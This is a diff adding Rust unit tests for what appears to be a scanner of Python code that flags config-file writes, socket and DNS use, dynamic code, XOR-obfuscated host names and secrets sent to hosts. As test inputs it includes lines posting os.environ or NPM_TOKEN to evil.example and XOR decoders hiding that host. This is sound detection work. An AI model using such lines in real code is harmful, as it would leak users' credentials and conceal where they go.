@@ -138,3 +138,149 @@ fn comments_docstrings_and_types_say_nothing() {
     let source = "def f(to: 'a@b.example') -> 'c@d.example':\n    \"\"\"Write to e@f.example.\"\"\"\n    # g@h.example\n    return 1\n";
     assert_eq!(values(source, Class::Email), Vec::<String>::new());
 }
+
+#[test]
+fn a_file_is_written_in_many_ways() {
+    let way = |line: &str| {
+        format!("from pathlib import Path\nimport os, shutil\nconfig = Path.home() / '.cursor' / 'mcp.json'\n{line}")
+    };
+    for line in [
+        "Path(config).open('w').write(x)",
+        "config.open(mode='w')",
+        "with config.open('a') as file:\n    file.write(x)",
+        "open(file=config, mode='w')",
+        "Path(config).write_text(x)",
+        "Path.write_text(config, x)",
+        "config.write_bytes(x)",
+        "os.open(config, os.O_WRONLY | os.O_CREAT)",
+        "os.open(config, flags=os.O_RDWR)",
+        "shutil.copyfile('a.json', config)",
+        "os.replace('a.json', config)",
+        "Path('a.json').rename(config)",
+        "Path('a.json').replace(Path.home() / '.cursor/mcp.json')",
+        "config.symlink_to('/tmp/a.json')",
+        "import aiofiles\nasync def f():\n    async with aiofiles.open(config, 'w') as file:\n        await file.write(x)",
+        "archive.open('a.json', 'w')",
+    ] {
+        assert_eq!(values(&way(line), Class::ClientConfigWrite), ["cursor"], "{line}");
+    }
+    for line in [
+        "config.open()",
+        "Path(config).open('r')",
+        "open(config, 'rb')",
+        "os.open(config, os.O_RDONLY)",
+        "import webbrowser\nwebbrowser.open('https://a.example', 2)",
+        "window.open('_blank')",
+        "frame.rename(columns)\nname.replace('a', '/b')\nframe.rename('b')",
+    ] {
+        assert_eq!(values(&way(line), Class::ClientConfigWrite), Vec::<String>::new(), "{line}");
+    }
+}
+
+#[test]
+fn of_the_module_of_sockets_what_is_used_counts() {
+    check(
+        Class::Socket,
+        &[
+            ("import socket\ntry:\n    run()\nexcept socket.gaierror:\n    pass", &[]),
+            ("import socket\nsock.shutdown(socket.SHUT_RDWR)", &[]),
+            ("import socket\nsocket.getaddrinfo(host, 1, proto=socket.IPPROTO_TCP, family=socket.AF_UNSPEC)", &[]),
+            ("try:\n    run()\nexcept __import__('socket').timeout:\n    pass", &[]),
+            ("from socket import gaierror, AF_INET", &[]),
+            ("import socket\nsocket.create_connection(x)", &["socket.create_connection"]),
+            ("import socket\nf(socket.AF_INET)\nsocket.socket()", &["socket.socket"]),
+            ("import socket\nf(socket.AF_INET)\ngetattr(socket, 'so' + 'cket')()", &["socket", "socket.socket"]),
+            ("import socket\nf(socket.AF_INET)\ngetattr(socket, name)()", &["socket"]),
+            ("import socket\nf(socket.AF_INET)\nrun(socket)", &["socket"]),
+            ("import socket\nf(socket.AF_INET)\nconnect = socket.create_connection", &["socket.create_connection"]),
+            ("import socket", &["socket"]),
+            ("import socket as s\ns.gaierror", &["socket"]),
+            ("from socket import *", &["socket", "socket.*"]),
+            ("from socket import socket", &["socket", "socket.socket"]),
+            ("__import__('socket').socket()", &["socket", "socket.socket"]),
+            ("from .compat import socket\nsocket.AF_INET", &["socket"]),
+            ("from . import compat\ncompat.socket.create_connection(x)", &["socket.create_connection"]),
+            ("self.socket.send(x)\ncontext.socket(zmq.SUB)", &[]),
+        ],
+    );
+    check(
+        Class::Dns,
+        &[
+            ("import socket\nsocket.getaddrinfo(host, 1)", &["socket.getaddrinfo"]),
+            ("from socket import getaddrinfo\ngetaddrinfo(host, 1)", &["socket.getaddrinfo"]),
+            ("import socket\nloop.run_in_executor(None, socket.getaddrinfo, host)", &["socket.getaddrinfo"]),
+        ],
+    );
+}
+
+#[test]
+fn what_is_only_parsed_is_not_run() {
+    check(
+        Class::DynamicCode,
+        &[
+            ("import ast\ncompile(x, 'a', 'exec', ast.PyCF_ONLY_AST)", &[]),
+            ("import ast\ncompile(x, 'a', 'exec', flags=ast.PyCF_ALLOW_TOP_LEVEL_AWAIT | ast.PyCF_ONLY_AST)", &[]),
+            ("from ast import PyCF_ONLY_AST as only\ncompile(x, 'a', 'exec', only)", &[]),
+            ("import ast\ncompile(x, 'a', 'exec', ast.PyCF_ALLOW_TOP_LEVEL_AWAIT)", &["compile"]),
+            ("compile(x, 'a', 'exec', PyCF_ONLY_AST)", &["compile"]),
+            ("import ast\nast.PyCF_ONLY_AST = 0\ncompile(x, 'a', 'exec', ast.PyCF_ONLY_AST)", &["compile"]),
+            ("import ast\ncompile(x, 'a', 'exec', *flags, ast.PyCF_ONLY_AST)", &["compile"]),
+            ("import ast\ncompile(x, 'a', 'exec', ast.PyCF_ONLY_AST & 0)", &["compile"]),
+        ],
+    );
+}
+
+#[test]
+fn decoders_that_people_write_themselves() {
+    let numbers = "[98, 113, 110, 107, 41, 98, 127, 102, 106, 119, 107, 98]";
+    for decoder in [
+        format!("''.join(chr(c ^ 7) for c in {numbers})"),
+        format!("''.join([chr(c ^ 7) for c in {numbers}])"),
+        format!("''.join(map(lambda c: chr(c ^ 7), {numbers}))"),
+        format!("bytes([c ^ 7 for c in {numbers}]).decode()"),
+        "bytes(c ^ 7 for c in b'bqnk)b\\x7ffjwkb').decode()".to_owned(),
+        "''.join(chr(ord(c) ^ 7) for c in list_of)".to_owned(),
+        "''.join('.aeilmpvx'[i] for i in [2, 7, 3, 4, 0, 2, 8, 1, 5, 6, 4, 2])".to_owned(),
+    ] {
+        let source = format!(
+            "list_of = ['b','q','n','k',')','b','\\x7f','f','j','w','k','b']\nurl = 'https://' + {decoder} + '/'"
+        );
+        assert_eq!(values(&source, Class::Host), ["evil.example"], "{decoder}");
+    }
+    for decoder in ["''.join(chr(c ^ 7) for c in numbers)", "''.join(decode(c, 7) for c in [1, 2])"] {
+        assert_eq!(
+            values(&format!("url = 'https://' + {decoder} + '/'"), Class::Host),
+            Vec::<String>::new(),
+            "{decoder}"
+        );
+    }
+}
+
+#[test]
+fn the_whole_environment_goes_to_a_host() {
+    let hosts =
+        |line: &str| values(&format!("import os, json, requests, base64, urllib.parse\n{line}"), Class::SecretSent);
+    for sent in [
+        "json=os.environ",
+        "json=dict(os.environ)",
+        "json={**os.environ}",
+        "json={'env': dict(os.environ)}",
+        "data=json.dumps(dict(os.environ))",
+        "data=json.dumps({**os.environ, 'a': 1}).encode()",
+        "data=str(os.environ)",
+        "data=base64.b64encode(json.dumps(os.environ.copy()).encode())",
+        "data=urllib.parse.urlencode(os.environ)",
+        "data='\\n'.join(f'{k}={v}' for k, v in os.environ.items())",
+        "params=dict(**os.environ)",
+        "headers={'x': os.environ['NPM_TOKEN']}",
+    ] {
+        assert_eq!(hosts(&format!("requests.post('https://evil.example', {sent})")), ["evil.example"], "{sent}");
+    }
+    for line in [
+        "requests.post('https://a.example', json={'port': os.environ['PORT']})",
+        "start({'url': 'https://a.example', 'env': dict(os.environ)})",
+        "requests.post('https://a.example', json=x)\nlog(os.environ)",
+    ] {
+        assert_eq!(hosts(line), Vec::<String>::new(), "{line}");
+    }
+}
